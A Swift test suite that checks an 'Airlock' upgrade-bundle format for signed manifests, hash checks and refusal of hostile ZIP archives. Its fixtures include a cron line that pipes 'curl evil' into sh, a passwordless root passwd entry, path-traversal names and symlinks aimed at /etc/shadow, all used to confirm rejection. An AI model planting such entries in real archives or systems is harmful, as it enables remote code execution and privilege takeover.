import AirlockCore
import AirlockLicensing
import AirlockStore
import AirlockTestSupport
import Crypto
import Foundation
import Testing
import ZIPFoundation
@testable import AirlockBundles
@testable import AirlockReleases

/// Building, opening and extracting upgrade bundles, and every way a bundle can be hostile: each
/// refusal must name the problem and leave the release prefix exactly as it was.
@Suite struct UpgradeBundleTests {
    // MARK: - Round trip

    @Test func aBundleRoundTripsToIdenticalFilesAndBecomesCurrent() throws {
        let fixture = BundleFixture()
        var payload = BundleFixture.payload("1.1.0")
        // A few hundred KB of incompressible bytes: extracted in many chunks.
        payload["bin/airlockd"] = Data((0..<300_000).map { _ in UInt8.random(in: 0...255) })
        let path = try fixture.bundle("1.1.0", payload: payload)

        let bundle = try UpgradeBundle.open(path, keys: fixture.keys)
        #expect(bundle.manifest.version == release("1.1.0"))
        #expect(bundle.manifest.files.map(\.path) == BundleFixture.order)
        let out = fixture.dir.child("extracted")
        try FileManager.default.createDirectory(atPath: out, withIntermediateDirectories: false)
        try bundle.extract(into: out)
        for file in BundleFixture.order {
            #expect(FileManager.default.contents(atPath: out + "/" + file) == payload[file], "\(file)")
            #expect(TreeState.mode(of: out + "/" + file) == (BundleFixture.executables.contains(file) ? 0o755 : 0o644), "\(file)")
        }
        try bundle.verifyPayload()

        try fixture.prefix.stage(bundle, progress: { _ in })
        try fixture.prefix.switchCurrent(to: release("1.1.0"))
        #expect(try FileManager.default.destinationOfSymbolicLink(atPath: fixture.prefix.root + "/current") == "releases/1.1.0")
        #expect(try fixture.prefix.currentVersion() == release("1.1.0"))
        #expect(fixture.prefix.installedVersions() == [release("1.1.0")])
        let installed = fixture.prefix.directory(for: release("1.1.0"))
        #expect(FileManager.default.contents(atPath: installed + "/bin/airlockd") == payload["bin/airlockd"])
        #expect(try fixture.prefix.manifest(of: release("1.1.0"), keys: fixture.keys) == bundle.manifest)
        #expect(try FileManager.default.contentsOfDirectory(atPath: fixture.prefix.root + "/releases") == ["1.1.0"], "no staging left")
    }

    @Test func stagingAReleaseAlreadyOnDiskAndIntactKeepsIt() throws {
        let fixture = BundleFixture()
        try fixture.install("1.0.0")
        let before = TreeState.of(fixture.prefix.root)
        var lines: [String] = []
        try fixture.prefix.stage(try UpgradeBundle.open(fixture.bundle("1.0.0"), keys: fixture.keys), progress: { lines.append($0) })
        #expect(lines.contains { $0.contains("already staged and intact") })
        #expect(TreeState.of(fixture.prefix.root) == before)
    }

    @Test func buildRefusesToOverwriteAndDescribeRefusesAPlaceOutsideTheComponents() throws {
        let fixture = BundleFixture()
        let path = try fixture.bundle("1.1.0")
        let bytes = FileManager.default.contents(atPath: path)
        let sources = try fixture.writeSources(BundleFixture.payload("1.1.0"))
        let manifest = try BundleFixture.describe(sources, version: "1.1.0")
        let error = #expect(throws: BundleError.self) {
            try UpgradeBundle.build(manifest: manifest, sources: sources, key: fixture.releaseKey, output: path)
        }
        #expect(error?.description.contains("refusing to overwrite") == true)
        #expect(FileManager.default.contents(atPath: path) == bytes)
        let outside = #expect(throws: BundleError.self) {
            try UpgradeBundle.describe(sources["bin/airlockd"]!, as: "etc/passwd", executable: false)
        }
        #expect(outside?.description.contains("not a place a bundle can put a file") == true)
    }

    // MARK: - Keys

    @Test func aBundleSignedWithTheLicenceKeyIsRefused() throws {
        let fixture = BundleFixture()
        try fixture.install("1.0.0")
        let licenceKey = Curve25519.Signing.PrivateKey()
        let path = try fixture.bundle("1.1.0", key: licenceKey)
        fixture.expectRefused(path, mentioning: "licence key",
                              keys: ReleaseKeys([fixture.releaseKey.publicKey], licenceKeys: [licenceKey.publicKey]))
    }

    @Test func aBundleSignedByAnUnknownKeyIsRefused() throws {
        let fixture = BundleFixture()
        try fixture.install("1.0.0")
        let path = try fixture.bundle("1.1.0", key: Curve25519.Signing.PrivateKey())
        fixture.expectRefused(path, mentioning: "not a release key")
    }

    @Test func loadingReleaseKeysRefusesAKeyAlsoTrustedForLicences() throws {
        let fixture = BundleFixture()
        let licenceKey = Curve25519.Signing.PrivateKey()
        let licences = VendorKeys([licenceKey.publicKey])
        let releaseOnly = fixture.dir.child("release-keys")
        try Data((VendorKeys.line(for: fixture.releaseKey.publicKey, comment: "dev release key") + "\n").utf8)
            .write(to: URL(fileURLWithPath: releaseOnly))
        let both = fixture.dir.child("both-keys")
        try Data([VendorKeys.line(for: fixture.releaseKey.publicKey, comment: "dev release key"),
                  VendorKeys.line(for: licenceKey.publicKey, comment: "the licence key, by mistake")].joined(separator: "\n").utf8)
            .write(to: URL(fileURLWithPath: both))

        let error = #expect(throws: BundleError.self) { try ReleaseKeys.load(extraFiles: [both], licenceKeys: licences) }
        #expect(error?.description.contains("trusted both for licences and for releases") == true, "\(String(describing: error))")

        let keys = try ReleaseKeys.load(extraFiles: [releaseOnly], licenceKeys: licences)
        #expect(try UpgradeBundle.open(fixture.bundle("1.1.0"), keys: keys).manifest.version == release("1.1.0"))
        #expect(throws: BundleError.self) { try UpgradeBundle.open(fixture.bundle("1.1.1", key: licenceKey), keys: keys) }
        #expect(throws: BundleError.self) { try ReleaseKeys.load(extraFiles: [fixture.dir.child("absent")], licenceKeys: licences) }
    }

    @Test func aManifestOfAnotherKindOrWithABrokenSignatureIsRefused() throws {
        let fixture = BundleFixture()
        try fixture.install("1.0.0")
        let (manifest, entries) = BundleFixture.honest("1.1.0")
        let json = try BundleFixture.json(manifest)
        let licence = try SignedEnvelope.sign(json, kind: SignedEnvelope.Kind.license, with: fixture.releaseKey)
        fixture.expectRefused(try fixture.craft(envelope: licence.encoded(), entries: entries), mentioning: "not a airlock-bundle/1")

        var forged = try SignedEnvelope.sign(json, kind: BundleManifest.kind, with: fixture.releaseKey)
        var changed = manifest
        changed.allowDowngrade = true
        forged.payload = try BundleFixture.json(changed)
        fixture.expectRefused(try fixture.craft(envelope: forged.encoded(), entries: entries), mentioning: "signature does not verify")

        fixture.expectRefused(try fixture.craft(envelope: Data("{\"kind\":".utf8), entries: entries), mentioning: "not a signed Airlock bundle manifest")

        // A version the parser refuses, correctly signed: the manifest does not decode.
        let text = String(decoding: json, as: UTF8.self).replacingOccurrences(of: "\"1.1.0\"", with: "\"01.1.0\"")
        let badVersion = try SignedEnvelope.sign(Data(text.utf8), kind: BundleManifest.kind, with: fixture.releaseKey)
        fixture.expectRefused(try fixture.craft(envelope: badVersion.encoded(), entries: entries), mentioning: "does not have the expected fields")

        fixture.expectRefused(try fixture.craft(manifest: nil, entries: entries), mentioning: "has no bundle manifest")
    }

    // MARK: - Damaged files

    @Test func aTruncatedEmptyOrForeignFileIsRefused() throws {
        let fixture = BundleFixture()
        try fixture.install("1.0.0")
        let bytes = try Data(contentsOf: URL(fileURLWithPath: fixture.bundle("1.1.0")))
        let cases: [(String, Data)] = [
            ("truncated", bytes.prefix(bytes.count / 2)),
            // Cut where a payload's bytes happen to hold a ZIP end record (a binary that links a
            // ZIP library carries its signature): a reader that takes the last signature it
            // finds would see an empty archive there, and call it a bundle without a manifest.
            ("truncated after a stray end record", BundleFixture.withStrayEndRecord(bytes.prefix(bytes.count / 2))),
            ("empty", Data()),
            ("not a zip", Data("#!/bin/sh\necho this is not a bundle\n".utf8)),
        ]
        for (name, data) in cases {
            let path = fixture.dir.child("\(name).bundle")
            try data.write(to: URL(fileURLWithPath: path))
            fixture.expectRefused(path, mentioning: "is not a bundle", comment: name)
        }
        fixture.expectRefused(fixture.dir.child("absent.bundle"), mentioning: "cannot read")
        fixture.expectRefused(fixture.dir.path, mentioning: "cannot read")
    }

    @Test func aFlippedByteInAPayloadEntryIsRefused() throws {
        let fixture = BundleFixture()
        try fixture.install("1.1.0")
        var payload = BundleFixture.payload("1.2.0")
        payload["bin/airlockd"] = Data(String(repeating: "the daemon's machine code, more or less; ", count: 2_000).utf8)
        let path = try fixture.bundle("1.2.0", payload: payload)
        var bytes = [UInt8](try Data(contentsOf: URL(fileURLWithPath: path)))
        let (start, length) = try #require(ZIPBytes.compressedData(of: "payload/bin/airlockd", in: bytes))
        bytes[start + length / 2] ^= 0x5A
        try Data(bytes).write(to: URL(fileURLWithPath: path))
        fixture.expectRefused(path, mentioning: "damaged", "does not match its SHA-256", "larger than", "shorter than")
    }

    @Test func aPayloadThatDoesNotMatchItsManifestHashIsRefused() throws {
        let fixture = BundleFixture()
        try fixture.install("1.0.0")
        var (manifest, entries) = BundleFixture.honest("1.1.0")
        let other = Data("bin/airlockd of release 6.6.6\n".utf8)
        let index = try #require(manifest.files.firstIndex { $0.path == "bin/airlockd" })
        #expect(manifest.files[index].size == Int64(other.count), "same size: only the hash differs")
        manifest.files[index].sha256 = BundleFixture.sha256(other)
        fixture.expectRefused(try fixture.craft(manifest: manifest, entries: entries), mentioning: "bin/airlockd does not match its SHA-256")

        // The archive's bytes swapped to match a manifest hash of other bytes: still one hash check.
        entries[0] = .file("payload/bin/airlockd", other)
        var honest = BundleFixture.honest("1.1.0").manifest
        honest.files[index].size = Int64(other.count)
        fixture.expectRefused(try fixture.craft(manifest: honest, entries: entries), mentioning: "bin/airlockd does not match its SHA-256")
    }

    @Test func anEntryLargerOrSmallerThanItsManifestSaysIsRefused() throws {
        let fixture = BundleFixture()
        try fixture.install("1.0.0")
        for delta in [-5, 5] {
            var (manifest, entries) = BundleFixture.honest("1.1.0")
            let index = try #require(manifest.files.firstIndex { $0.path == "catalog/models.toml" })
            manifest.files[index].size += Int64(delta)
            fixture.expectRefused(try fixture.craft(manifest: manifest, entries: entries),
                                  mentioning: "catalog/models.toml in the bundle is not the size its manifest says", comment: "delta \(delta)")
        }
    }

    // MARK: - Hostile archives

    @Test func aManifestNamingAnUnsafePathIsRefused() throws {
        let fixture = BundleFixture()
        try fixture.install("1.0.0")
        let unsafe = ["/etc/passwd", "../../etc/passwd", "catalog/../../../etc/passwd", "catalog/./x", "catalog//x", "catalog/x/",
                      "catalog\\..\\x", "catalog/caf\u{E9}.toml", "catalog/" + String(repeating: "a", count: 65),
                      "catalog/1/2/3/4/5/6/7/8", ""]
        for path in unsafe {
            var (manifest, entries) = BundleFixture.honest("1.1.0")
            let data = Data("root::0:0::/root:/bin/sh\n".utf8)
            manifest.files.append(.init(component: "catalog", path: path, size: Int64(data.count), sha256: BundleFixture.sha256(data), executable: false))
            entries.append(.file("payload/" + path, data))
            fixture.expectRefused(try fixture.craft(manifest: manifest, entries: entries), mentioning: "unsafe path", comment: path)
        }
    }

    @Test func aManifestThatBreaksItsOwnRulesIsRefused() throws {
        let fixture = BundleFixture()
        try fixture.install("1.0.0")
        let (honest, entries) = BundleFixture.honest("1.1.0")
        var cases: [(String, BundleManifest)] = []
        var twice = honest
        twice.files.append(honest.files[3])
        cases.append(("twice", twice))
        var fileAndFolder = honest
        fileAndFolder.files.append(.init(component: "appliance", path: "appliance/systemd/airlockd.service/x", size: 0,
                                         sha256: BundleFixture.sha256(Data()), executable: false))
        cases.append(("both a file and a folder", fileAndFolder))
        var wrongComponent = honest
        wrongComponent.files[4].component = "appliance"
        cases.append(("is not a part of component", wrongComponent))
        var badHash = honest
        badHash.files[4].sha256 = badHash.files[4].sha256.uppercased()
        cases.append(("has no valid SHA-256", badHash))
        var notExecutable = honest
        notExecutable.files[1].executable = false
        cases.append(("the bundle has no airlock (bin/airlock)", notExecutable))
        var minimumAbove = honest
        minimumAbove.minimumFromVersion = release("2.0.0")
        cases.append(("minimum_from_version is above its version", minimumAbove))
        var badMigration = honest
        badMigration.migrations.append("../x")
        cases.append(("migration list is malformed", badMigration))
        var otherProduct = honest
        otherProduct.product = "not-airlock"
        cases.append(("not an Airlock bundle", otherProduct))
        var newerFormat = honest
        newerFormat.format = 2
        cases.append(("format 2", newerFormat))
        var empty = honest
        empty.files = []
        cases.append(("lists 0 files", empty))
        for (phrase, manifest) in cases {
            fixture.expectRefused(try fixture.craft(manifest: manifest, entries: entries), mentioning: phrase, comment: phrase)
        }
    }

    @Test func aManifestWithoutARequiredBinaryIsRefused() throws {
        let fixture = BundleFixture()
        try fixture.install("1.0.0")
        var (manifest, entries) = BundleFixture.honest("1.1.0")
        manifest.files.removeAll { $0.path == "bin/airlock-agent" }
        entries.removeAll { $0.name == "payload/bin/airlock-agent" }
        fixture.expectRefused(try fixture.craft(manifest: manifest, entries: entries), mentioning: "has no airlock-agent (bin/airlock-agent)")
    }

    @Test func anEntryTheManifestDoesNotListIsRefused() throws {
        let fixture = BundleFixture()
        try fixture.install("1.0.0")
        for extra in ["payload/../../evil", "evil.txt", "payload/catalog/extra.toml", "/etc/cron.d/evil", "payload/bin/airlockd/"] {
            var (manifest, entries) = BundleFixture.honest("1.1.0")
            entries.append(.file(extra, Data("* * * * * root sh -c 'curl evil | sh'\n".utf8)))
            fixture.expectRefused(try fixture.craft(manifest: manifest, entries: entries), mentioning: "which its manifest does not list",
                                  comment: extra)
        }
        #expect(!FileManager.default.fileExists(atPath: fixture.dir.path + "/evil"))
        #expect(!FileManager.default.fileExists(atPath: (fixture.dir.path as NSString).deletingLastPathComponent + "/evil"))
    }

    @Test func anArchiveMissingAListedFileIsRefused() throws {
        let fixture = BundleFixture()
        try fixture.install("1.0.0")
        var (manifest, entries) = BundleFixture.honest("1.1.0")
        entries.removeAll { $0.name == "payload/catalog/models.toml" }
        fixture.expectRefused(try fixture.craft(manifest: manifest, entries: entries), mentioning: "lacks files its manifest lists")
    }

    @Test func aSymlinkEntryIsRefused() throws {
        let fixture = BundleFixture()
        try fixture.install("1.0.0")
        var (manifest, entries) = BundleFixture.honest("1.1.0")
        let target = "/etc/shadow"
        let index = try #require(manifest.files.firstIndex { $0.path == "catalog/models.toml" })
        manifest.files[index].size = Int64(target.utf8.count)
        entries[index] = .symlink("payload/catalog/models.toml", target: target)
        fixture.expectRefused(try fixture.craft(manifest: manifest, entries: entries), mentioning: "is a link, not a file")

        var (_, more) = BundleFixture.honest("1.1.0")
        more.append(.symlink("payload/catalog/escape", target: "../../../../etc"))
        fixture.expectRefused(try fixture.craft(manifest: BundleFixture.honest("1.1.0").manifest, entries: more),
                              mentioning: "which its manifest does not list")
    }

    @Test func aDirectoryEntryIsRefused() throws {
        let fixture = BundleFixture()
        try fixture.install("1.0.0")
        var (manifest, entries) = BundleFixture.honest("1.1.0")
        let index = try #require(manifest.files.firstIndex { $0.path == "catalog/models.toml" })
        manifest.files[index].size = 0
        entries[index] = .directory("payload/catalog/models.toml")
        fixture.expectRefused(try fixture.craft(manifest: manifest, entries: entries), mentioning: "is a folder, not a file")

        var (_, more) = BundleFixture.honest("1.1.0")
        more.append(.directory("payload/bin/"))
        fixture.expectRefused(try fixture.craft(manifest: BundleFixture.honest("1.1.0").manifest, entries: more),
                              mentioning: "which its manifest does not list")
    }

    @Test func aNameTwiceInTheArchiveIsRefused() throws {
        let fixture = BundleFixture()
        try fixture.install("1.0.0")
        let (manifest, entries) = BundleFixture.honest("1.1.0")
        // The second copy is what a reader going by the last entry would see.
        let evil = CraftedEntry.file("payload/bin/airlockd", Data("bin/airlockd of release 6.6.6\n".utf8))
        fixture.expectRefused(try fixture.craft(manifest: manifest, entries: entries + [evil]), mentioning: "holds payload/bin/airlockd twice")
        fixture.expectRefused(try fixture.craft(manifest: manifest, entries: entries + [entries[0]]), mentioning: "holds payload/bin/airlockd twice")
        fixture.expectRefused(try fixture.craft(manifest: manifest, entries: entries, manifestTwice: true), mentioning: "holds manifest.json twice")
    }

    @Test(arguments: [(0o020644, "20644"), (0o060644, "60644"), (0o010644, "10644"), (0o140644, "140644")])
    func aDeviceFIFOOrSocketEntryIsRefused(mode: Int, shown: String) throws {
        let fixture = BundleFixture()
        try fixture.install("1.0.0")
        let path = try fixture.bundle("1.1.0")
        var bytes = [UInt8](try Data(contentsOf: URL(fileURLWithPath: path)))
        #expect(ZIPBytes.setUnixMode(of: "payload/appliance/systemd/airlockd.service", to: UInt32(mode), in: &bytes))
        try Data(bytes).write(to: URL(fileURLWithPath: path))
        fixture.expectRefused(path, mentioning: "payload/appliance/systemd/airlockd.service in the bundle is not a regular file (mode \(shown))")
    }

    /// ZIPFoundation walks the central directory by the end record's entry count; `ZIPModes` reads
    /// only as many bytes as the end record's directory size. A size that stops one record short
    /// hides the last entry's mode from the device check.
    @Test
    func aDeviceEntryPastTheDeclaredDirectorySizeIsRefused() throws {
        let fixture = BundleFixture()
        try fixture.install("1.0.0")
        let path = try fixture.bundle("1.1.0")
        var bytes = [UInt8](try Data(contentsOf: URL(fileURLWithPath: path)))
        let last = "payload/catalog/models.toml"
        #expect(ZIPBytes.setUnixMode(of: last, to: 0o020644, in: &bytes))
        #expect(ZIPBytes.shortenDirectory(toExclude: last, in: &bytes))
        try Data(bytes).write(to: URL(fileURLWithPath: path))
        fixture.expectRefused(path, mentioning: "not a regular file", "damaged")
    }

    // MARK: - Versions

    @Test func releaseVersionsParseOnlyPlainMajorMinorPatch() {
        for text in ["1.2.3", "0.0.0", "10.20.30", "999999999.0.1"] {
            #expect(ReleaseVersion(text)?.description == text, "\(text)")
        }
        for text in ["1.2", "1.2.3.4", "01.2.3", "1.02.3", "1.2.03", "1.2.3-rc1", "", " 1.2.3", "1.2.3 ", "1.2.3\n", "１.2.3", "1.２.3",
                     "v1.2.3", "1..3", ".1.2", "1.2.", "-1.2.3", "+1.2.3", "1.2.-3", "1.2.0x3", "1234567890.0.0", "٣.2.3", "1.2.3/"] {
            #expect(ReleaseVersion(text) == nil, "\(text.debugDescription)")
        }
    }

    @Test func releaseVersionsCompareNumerically() throws {
        #expect(release("1.10.0") > release("1.9.9"))
        #expect(release("2.0.0") > release("1.99.99"))
        #expect(release("0.9.10") > release("0.9.9"))
        #expect(release("1.2.3") == release("1.2.3"))
        #expect([release("1.10.0"), release("1.2.0"), release("1.9.0")].sorted().map(\.description) == ["1.2.0", "1.9.0", "1.10.0"])
        let decoded = try JSONDecoder().decode([ReleaseVersion].self, from: Data("[\"1.10.0\"]".utf8))
        #expect(decoded == [release("1.10.0")])
        #expect(throws: DecodingError.self) { try JSONDecoder().decode([ReleaseVersion].self, from: Data("[\"1.10\"]".utf8)) }
    }
}

// MARK: - Fixtures shared with UpgraderTests

func release(_ text: String) -> ReleaseVersion {
    guard let version = ReleaseVersion(text) else { fatalError("bad test version \(text)") }
    return version
}

/// One entry of a hand-made archive.
enum CraftedEntry {
    case file(String, Data)
    case symlink(String, target: String)
    case directory(String)

    var name: String {
        switch self {
        case let .file(name, _), let .symlink(name, _), let .directory(name): name
        }
    }
}

/// A temporary folder with a vendor release key, an install prefix, a data directory, and small
/// fake releases whose "binaries" are a line of text naming their release.
final class BundleFixture: @unchecked Sendable {
    let dir = TemporaryDirectory("airlock-bundle")
    let releaseKey = Curve25519.Signing.PrivateKey()
    let prefix: ReleasePrefix
    let dataDirectory: String

    static let executables = ["bin/airlockd", "bin/airlock", "bin/airlock-agent"]
    /// Manifest order.
    static let order = executables + ["appliance/systemd/airlockd.service", "catalog/models.toml"]

    init() {
        prefix = ReleasePrefix(dir.path + "/prefix")
        dataDirectory = dir.path + "/data"
        try! FileManager.default.createDirectory(atPath: prefix.root, withIntermediateDirectories: true)
    }

    var keys: ReleaseKeys { ReleaseKeys([releaseKey.publicKey]) }

    static func payload(_ version: String) -> [String: Data] {
        Dictionary(uniqueKeysWithValues: order.map { ($0, Data("\($0) of release \(version)\n".utf8)) })
    }

    static func sha256(_ data: Data) -> String { Data(SHA256.hash(data: data)).hexString }

    /// `data` with an empty archive's end record (signature, then zeros) written 1,000 bytes
    /// before its end: what a cut through a payload that links a ZIP library can leave.
    static func withStrayEndRecord(_ data: Data) -> Data {
        var bytes = [UInt8](data)
        let record: [UInt8] = [0x50, 0x4B, 0x05, 0x06] + [UInt8](repeating: 0, count: 18)
        bytes.replaceSubrange((bytes.count - 1_000)..<(bytes.count - 1_000 + record.count), with: record)
        return Data(bytes)
    }

    static func json(_ manifest: BundleManifest) throws -> Data {
        let encoder = JSONEncoder()
        encoder.outputFormatting = [.sortedKeys]
        return try encoder.encode(manifest)
    }

    func writeSources(_ payload: [String: Data]) throws -> [String: String] {
        let root = dir.child("src-\(UUID().uuidString.prefix(8))")
        var sources: [String: String] = [:]
        for (path, data) in payload {
            let file = root + "/" + path
            try FileManager.default.createDirectory(atPath: (file as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
            try data.write(to: URL(fileURLWithPath: file))
            sources[path] = file
        }
        return sources
    }

    static func describe(_ sources: [String: String], version: String, minimumFrom: String = "0.0.0", allowDowngrade: Bool = false,
                         migrations: [String] = Store.knownMigrations) throws -> BundleManifest {
        let files = try order.filter { sources[$0] != nil }.map { path in
            try UpgradeBundle.describe(sources[path]!, as: path, executable: executables.contains(path))
        }
        return BundleManifest(version: release(version), minimumFromVersion: release(minimumFrom), createdAt: 1_800_000_000,
                              allowDowngrade: allowDowngrade, migrations: migrations, files: files)
    }

    /// A bundle built the vendor's way (`UpgradeBundle.build`); returns its path.
    func bundle(_ version: String, payload: [String: Data]? = nil, minimumFrom: String = "0.0.0", allowDowngrade: Bool = false,
                migrations: [String] = Store.knownMigrations, key: Curve25519.Signing.PrivateKey? = nil) throws -> String {
        let sources = try writeSources(payload ?? Self.payload(version))
        let manifest = try Self.describe(sources, version: version, minimumFrom: minimumFrom, allowDowngrade: allowDowngrade, migrations: migrations)
        try FileManager.default.createDirectory(atPath: dir.child("bundles"), withIntermediateDirectories: true)
        let output = dir.child("bundles/airlock-\(version)-\(UUID().uuidString.prefix(8)).bundle")
        try UpgradeBundle.build(manifest: manifest, sources: sources, key: key ?? releaseKey, output: output)
        return output
    }

    /// Stages `version` and points `current` at it, as `airlock upgrade install` would.
    func install(_ version: String, migrations: [String] = Store.knownMigrations) throws {
        let bundle = try UpgradeBundle.open(try self.bundle(version, migrations: migrations), keys: keys)
        try prefix.stage(bundle, progress: { _ in })
        try prefix.switchCurrent(to: bundle.manifest.version)
    }

    /// The manifest and archive entries of an honest bundle, for crafting a dishonest one.
    static func honest(_ version: String) -> (manifest: BundleManifest, entries: [CraftedEntry]) {
        let payload = payload(version)
        let files = order.map { path in
            BundleManifest.File(component: BundleManifest.component(of: path)!, path: path, size: Int64(payload[path]!.count),
                                sha256: sha256(payload[path]!), executable: executables.contains(path))
        }
        let manifest = BundleManifest(version: release(version), minimumFromVersion: release("0.0.0"), createdAt: 1_800_000_000,
                                      allowDowngrade: false, migrations: Store.knownMigrations, files: files)
        return (manifest, order.map { .file("payload/" + $0, payload[$0]!) })
    }

    /// An archive holding `manifest` signed with the release key (nil: no manifest entry) and `entries`.
    func craft(manifest: BundleManifest?, entries: [CraftedEntry], manifestTwice: Bool = false) throws -> String {
        let envelope = try manifest.map { try SignedEnvelope.sign(try Self.json($0), kind: BundleManifest.kind, with: releaseKey).encoded() }
        return try craft(envelope: envelope, entries: entries, manifestTwice: manifestTwice)
    }

    func craft(envelope: Data?, entries: [CraftedEntry], manifestTwice: Bool = false) throws -> String {
        try FileManager.default.createDirectory(atPath: dir.child("bundles"), withIntermediateDirectories: true)
        let output = dir.child("bundles/crafted-\(UUID().uuidString.prefix(8)).bundle")
        let archive = try Archive(url: URL(fileURLWithPath: output), accessMode: .create)
        func add(_ name: String, _ type: Entry.EntryType, _ data: Data) throws {
            try archive.addEntry(with: name, type: type, uncompressedSize: Int64(data.count), compressionMethod: type == .file ? .deflate : .none) {
                position, size in data.subdata(in: Int(position)..<Int(position) + size)
            }
        }
        if let envelope {
            for _ in 0..<(manifestTwice ? 2 : 1) { try add(UpgradeBundle.manifestEntry, .file, envelope) }
        }
        for entry in entries {
            switch entry {
            case let .file(name, data): try add(name, .file, data)
            case let .symlink(name, target): try add(name, .symlink, Data(target.utf8))
            case let .directory(name): try add(name, .directory, Data())
            }
        }
        return output
    }

    /// Tries to install `bundle` the way the upgrade code does (open, stage, switch) and expects a
    /// `BundleError` whose message contains one of `phrases`, with the prefix exactly as before.
    func expectRefused(_ bundle: String, mentioning phrases: String..., keys: ReleaseKeys? = nil, comment: String = "",
                       sourceLocation: SourceLocation = #_sourceLocation) {
        let before = TreeState.of(prefix.root)
        let keys = keys ?? self.keys
        let error = #expect(throws: BundleError.self, Comment(rawValue: comment), sourceLocation: sourceLocation) {
            let opened = try UpgradeBundle.open(bundle, keys: keys)
            try self.prefix.stage(opened, progress: { _ in })
            try self.prefix.switchCurrent(to: opened.manifest.version)
        }
        if let error {
            #expect(phrases.contains { error.description.contains($0) }, "\(error.description) (\(comment))",
                    sourceLocation: sourceLocation)
        }
        let after = TreeState.of(prefix.root)
        #expect(after == before, "the prefix changed: \(before.difference(from: after)) (\(comment))", sourceLocation: sourceLocation)
    }
}

/// Every path under a folder (dotfiles included) with its type, permission bits, link target and
/// SHA-256: enough to tell that nothing was added, removed or changed.
struct TreeState: Equatable {
    struct Item: Equatable, CustomStringConvertible {
        var path: String
        var type: String
        var mode: UInt32
        var link: String?
        var sha256: String?
        var description: String { "\(path) \(type) \(String(mode, radix: 8)) \(link ?? "") \(sha256?.prefix(12) ?? "")" }
    }

    var items: [Item]

    static func of(_ root: String) -> TreeState {
        var items: [Item] = []
        func walk(_ relative: String) {
            let path = relative.isEmpty ? root : root + "/" + relative
            var info = stat()
            guard lstat(path, &info) == 0 else { return }
            var item = Item(path: relative.isEmpty ? "." : relative, type: "other", mode: UInt32(info.st_mode & 0o7777))
            switch info.st_mode & S_IFMT {
            case S_IFDIR:
                item.type = "dir"
                items.append(item)
                for name in ((try? FileManager.default.contentsOfDirectory(atPath: path)) ?? []).sorted() {
                    walk(relative.isEmpty ? name : relative + "/" + name)
                }
                return
            case S_IFLNK:
                item.type = "link"
                item.link = try? FileManager.default.destinationOfSymbolicLink(atPath: path)
            case S_IFREG:
                item.type = "file"
                item.sha256 = FileManager.default.contents(atPath: path).map(BundleFixture.sha256)
            default:
                break
            }
            items.append(item)
        }
        walk("")
        return TreeState(items: items)
    }

    static func mode(of path: String) -> UInt32? {
        var info = stat()
        guard lstat(path, &info) == 0 else { return nil }
        return UInt32(info.st_mode & 0o7777)
    }

    func difference(from other: TreeState) -> String {
        let mine = Set(items.map(\.description)), theirs = Set(other.items.map(\.description))
        return "before only: \(mine.subtracting(theirs).sorted()); after only: \(theirs.subtracting(mine).sorted())"
    }
}

/// Byte-level edits of ZIP files that ZIPFoundation will not make.
enum ZIPBytes {
    static func uint16(_ bytes: [UInt8], _ offset: Int) -> Int { Int(bytes[offset]) | Int(bytes[offset + 1]) << 8 }
    static func uint32(_ bytes: [UInt8], _ offset: Int) -> Int { uint16(bytes, offset) | uint16(bytes, offset + 2) << 16 }

    /// Offsets of the central-directory records named `name`, and each record's length.
    static func centralRecords(named name: String, in bytes: [UInt8]) -> [(offset: Int, length: Int)] {
        let wanted = Array(name.utf8)
        var found: [(Int, Int)] = []
        var offset = 0
        while offset + 46 <= bytes.count {
            if bytes[offset] == 0x50, bytes[offset + 1] == 0x4b, bytes[offset + 2] == 0x01, bytes[offset + 3] == 0x02 {
                let nameLength = uint16(bytes, offset + 28)
                if offset + 46 + nameLength <= bytes.count, Array(bytes[(offset + 46)..<(offset + 46 + nameLength)]) == wanted {
                    found.append((offset, 46 + nameLength + uint16(bytes, offset + 30) + uint16(bytes, offset + 32)))
                }
            }
            offset += 1
        }
        return found
    }

    /// Makes the entry claim to be made on Unix with `mode` (type bits included).
    static func setUnixMode(of name: String, to mode: UInt32, in bytes: inout [UInt8]) -> Bool {
        let records = centralRecords(named: name, in: bytes)
        for record in records {
            bytes[record.offset + 5] = 3
            let attributes = mode << 16
            for index in 0..<4 { bytes[record.offset + 38 + index] = UInt8((attributes >> (8 * UInt32(index))) & 0xFF) }
        }
        return !records.isEmpty
    }

    /// Where the stored (compressed) bytes of `name` start, and how many there are.
    static func compressedData(of name: String, in bytes: [UInt8]) -> (start: Int, length: Int)? {
        guard let record = centralRecords(named: name, in: bytes).first else { return nil }
        let local = uint32(bytes, record.offset + 42)
        let start = local + 30 + uint16(bytes, local + 26) + uint16(bytes, local + 28)
        return (start, uint32(bytes, record.offset + 20))
    }

    /// Lowers the end record's directory size so that it ends just before `name`'s record, which
    /// must be the last one; the entry count stays.
    static func shortenDirectory(toExclude name: String, in bytes: inout [UInt8]) -> Bool {
        guard let record = centralRecords(named: name, in: bytes).first,
              let end = stride(from: bytes.count - 22, through: 0, by: -1).first(where: { uint32(bytes, $0) == 0x0605_4b50 }) else { return false }
        let size = uint32(bytes, end + 12), start = uint32(bytes, end + 16)
        guard record.offset + record.length == start + size else { return false }
        let shorter = UInt32(size - record.length)
        for index in 0..<4 { bytes[end + 12 + index] = UInt8((shorter >> (8 * UInt32(index))) & 0xFF) }
        return true
    }
}

@Suite struct ReleaseKeyFileTests {
    @Test func theProductionReleaseKeysAreThoseInTheRepositoryFile() throws {
        let file = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
            .appendingPathComponent("licenses/trusted-release-keys").path
        let repository = try VendorKeys.parse(try String(contentsOfFile: file, encoding: .utf8), source: file)
        let compiled = try VendorKeys.parse(ProductionReleaseKeys.lines, source: "compiled")
        #expect(repository.map(\.rawRepresentation) == compiled.map(\.rawRepresentation))
    }
}
